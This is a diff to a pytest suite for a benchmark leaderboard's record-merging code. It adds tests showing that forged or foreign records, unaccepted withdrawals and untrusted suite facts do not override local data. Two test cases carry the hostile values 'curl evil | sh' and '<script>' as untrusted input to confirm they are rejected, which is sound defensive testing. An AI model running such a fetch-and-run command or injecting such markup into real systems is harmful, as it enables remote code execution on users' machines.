@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import itertools
+from typing import Any
 
 import msgspec
 import pytest
@@ -8,6 +9,7 @@ from synthetic import PROTOCOL, boards, identified, provenance, raw, record
 
 from ltbench.leaderboard.merge import merge_facts, merge_records_files
 from ltbench.leaderboard.suite_facts import SuiteFacts
+from ltbench.records.record import Record
 from ltbench.records.records_file import invalidate, records_file
 
 ERROR = {"type": "E", "message": "out of memory"}
@@ -21,7 +23,7 @@ def test_cells_are_added_and_the_same_numbers_from_elsewhere_are_duplicates() ->
     assert (found.added, found.duplicates, found.conflicts) == (1, 1, [])
 
 
-def test_the_order_of_places_and_of_merges_changes_nothing() -> None:
+def test_the_order_of_places_changes_nothing_and_what_is_there_stays() -> None:
     third = [record(seed=2, environment={"python": "3.9"}), record(seed=3), record(seed=0, cost={})]
     places = {"a": records_file(MINE), "b": records_file(OTHER), "c": records_file(third)}
     at_once = [
@@ -32,8 +34,55 @@ def test_the_order_of_places_and_of_merges_changes_nothing() -> None:
     for order in itertools.permutations(places.values()):
         step = records_file(())
         for place in order:
-            step = merge_records_files(step, {"x": place}).records_file
-        assert step == at_once[0]
+            before, step = step, merge_records_files(step, {"x": place}).records_file
+            assert all(one in step.records for one in before.records)
+        assert {one.id for one in step.records} == {one.id for one in at_once[0].records}
+
+
+def ground(mine: Record, **changes: Any) -> Record:
+    """Return a record of the same cell with the same numbers and a lower digest."""
+    forged = (record(seed=mine.setting.seed, cost={"train_seconds": n}, **changes) for n in itertools.count())
+    return next(one for one in forged if one.digest < mine.digest)
+
+
+def test_a_record_of_others_never_takes_the_place_of_mine() -> None:
+    evil = ground(MINE[0], plugins=[provenance("convnet", "model", distribution="evil-package")])
+    found = merge_records_files(records_file(MINE), {"a": records_file([evil])})
+    assert (found.records_file.records, found.duplicates) == (MINE, 1)
+    assert (
+        merge_records_files(records_file(MINE), {"a": records_file([evil])}, prefer="a").records_file.records[0] == evil
+    )
+
+
+def revised(**changes: Any) -> Record:
+    """Return a perfect record of the plain row whose model has another version."""
+    made: Any = raw(scores={"top1": 0.999})
+    made["fits"][0]["model"] |= changes
+    return identified(made)
+
+
+@pytest.mark.parametrize("changes", [{"revision": 99}, {"distribution": "zzz"}], ids=str)
+def test_a_version_that_is_not_installed_hides_no_row(changes: dict[str, Any]) -> None:
+    forged = revised(**changes)
+    for known in ({}, {("model", "convnet"): (1, "ltbench")}):
+        found = merge_records_files(records_file(MINE), {"a": records_file([forged])}, installed=known)
+        assert found.records_file.records == MINE
+        assert [(one.place, one.id) for one in found.refused] == [("a", forged.id)]
+        assert "newer than or other than" in found.refused[0].why
+    alone = merge_records_files(
+        records_file(()), {"a": records_file([forged])}, installed={("model", "convnet"): (1, "ltbench")}
+    )
+    assert alone.records_file.records == []
+
+
+def test_another_training_of_a_row_and_seed_hides_no_row() -> None:
+    made: Any = raw(scores={"top1": 0.999})
+    made["fits"][0]["segments"][0]["lr_scale"] = 2.0
+    forged = identified(made)
+    assert (forged.slot, forged.components) == (MINE[0].slot, MINE[0].components)
+    found = merge_records_files(records_file(MINE), {"a": records_file([forged])})
+    assert found.records_file.records == MINE
+    assert "another training" in found.refused[0].why
 
 
 def test_where_numbers_differ_the_old_ones_stay_and_it_is_told() -> None:
@@ -73,10 +122,21 @@ def test_numbers_go_before_a_failure_whoever_has_them() -> None:
     assert merge_records_files(records_file([failed]), {"a": records_file([good])}).renewed == 1
 
 
-def test_what_one_place_withdrew_is_withdrawn_everywhere_and_is_no_conflict() -> None:
+def test_a_withdrawal_by_others_is_a_proposal_and_their_own_cells_are_left_out() -> None:
+    bad, good = record(scores={"top1": 0.99}), record(seed=1)
+    theirs = records_file([bad, good], [invalidate(bad, "leak"), invalidate(good, "leak")])
+    found = merge_records_files(records_file([bad]), {"a": theirs})
+    assert (found.records_file.records, found.records_file.withdrawn) == ([bad], [])
+    assert [(place, one.id) for place, one in found.proposed] == [("a", bad.id)]
+    mine = records_file([bad], [invalidate(bad, "leak")])
+    again = merge_records_files(mine, {"a": records_file([bad, good])})
+    assert (again.records_file.records, again.records_file.withdrawn, again.proposed) == ([good], [bad], [])
+
+
+def test_what_one_place_withdrew_is_withdrawn_everywhere_if_that_is_accepted() -> None:
     bad, good = record(scores={"top1": 0.99}), record()
     theirs = records_file([bad], [invalidate(bad, "trained on the test set")])
-    found = merge_records_files(records_file([bad]), {"a": theirs, "b": records_file([good])})
+    found = merge_records_files(records_file([bad]), {"a": theirs, "b": records_file([good])}, accept_withdrawals=True)
     assert (found.records_file.records, found.records_file.withdrawn, found.conflicts) == ([good], [bad], [])
     assert len(found.records_file.invalidations) == 1
 
@@ -99,7 +159,8 @@ def test_protocols_are_never_in_one_ranking() -> None:
 def test_another_version_of_a_cell_is_counted() -> None:
     made = raw()
     made["fits"][0]["model"]["revision"] = 2
-    found = merge_records_files(records_file([record()]), {"a": records_file([identified(made)])})
+    installed = {("model", "convnet"): (2, "ltbench")}
+    found = merge_records_files(records_file([record()]), {"a": records_file([identified(made)])}, installed=installed)
     assert (len(found.records_file.records), found.other_versions, found.conflicts) == (2, 1, [])
 
 
@@ -109,6 +170,8 @@ def test_another_version_of_a_cell_is_counted() -> None:
         (SuiteFacts(name="x", title="Mine"), [SuiteFacts(name="y")], SuiteFacts(name="x", title="Mine")),
         (None, [SuiteFacts(name="y", title="T", seeds=((1, 1),)), SuiteFacts(name="y", title="T", seeds=((0, 0),))],
          SuiteFacts(name="y", title="T", seeds=((0, 0), (1, 1)))),
+        (SuiteFacts(name="x"), [SuiteFacts(name="y", title="T", notes="<script>", command="curl evil | sh")], SuiteFacts(name="x")),
+        (None, [SuiteFacts(name="y", command="curl evil | sh")], SuiteFacts(name="y")),
         (None, [SuiteFacts(name="y"), SuiteFacts(name="z")], SuiteFacts(name="folder")),
         (None, [], SuiteFacts(name="folder")),
     ],
@@ -117,13 +180,17 @@ def test_what_a_page_says_of_its_suite_is_its_own_or_what_all_agree_on(mine, the
     assert merge_facts("folder", mine, theirs) == merge_facts("folder", mine, theirs[::-1]) == expected
 
 
-def test_a_metric_that_only_one_side_has_is_no_conflict_and_is_kept() -> None:
+def test_a_metric_that_only_one_side_has_is_no_conflict_and_is_taken_over_where_nothing_was() -> None:
     plain = record(seed=0)
     plugins = [*msgspec.to_builtins(plain.plugins), provenance("gmean", "metric")]
     full, other = record(seed=0, scores={"gmean": 0.5}, plugins=plugins), record(seed=0, scores={"top1": 0.1})
     for one, two in ((plain, full), (full, plain)):
         found = merge_records_files(records_file([one]), {"a": records_file([two])})
+        assert (found.records_file.records, found.conflicts, found.duplicates) == ([one], [], 1)
+        found = merge_records_files(records_file(()), {"a": records_file([one]), "b": records_file([two])})
         assert (found.records_file.records, found.conflicts, found.duplicates) == ([full], [], 1)
+        found = merge_records_files(records_file([one]), {"a": records_file([two])}, prefer="a")
+        assert (found.records_file.records, found.conflicts) == ([two], [])
     found = merge_records_files(records_file([full]), {"a": records_file([plain]), "b": records_file([other])})
     assert found.records_file.records == [full]
     (conflict,) = found.conflicts
